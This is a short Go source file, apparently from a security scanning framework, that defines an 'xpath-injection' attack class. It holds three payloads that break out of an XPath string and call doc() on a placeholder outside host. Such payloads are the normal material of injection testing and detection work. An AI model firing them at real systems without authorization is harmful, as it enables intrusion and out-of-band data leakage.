package attack

import (
	"github.com/mcpsf/mcpsf"
)

func xpathInjection() Class {
	return Class{
		ID:    "xpath-injection",
		Title: "A value becomes part of an XPath expression",
		Yield: kinds{"xml": 5, "query": 2, "name": 2}.about(prose(40), "xpath", "xml", "xquery"),
		Payloads: queryPayloads("xpath", mcpsf.SignRequest, [][2]string{
			{"¤' or doc('http://§/') or '", "document of another host"},
			{"¤\" or doc(\"http://§/\") or \"", "document of another host, in double quotes"},
			{"doc('http://§/')", "document of another host, no quotes"},
		}),
		Balanced: 1,
	}
}
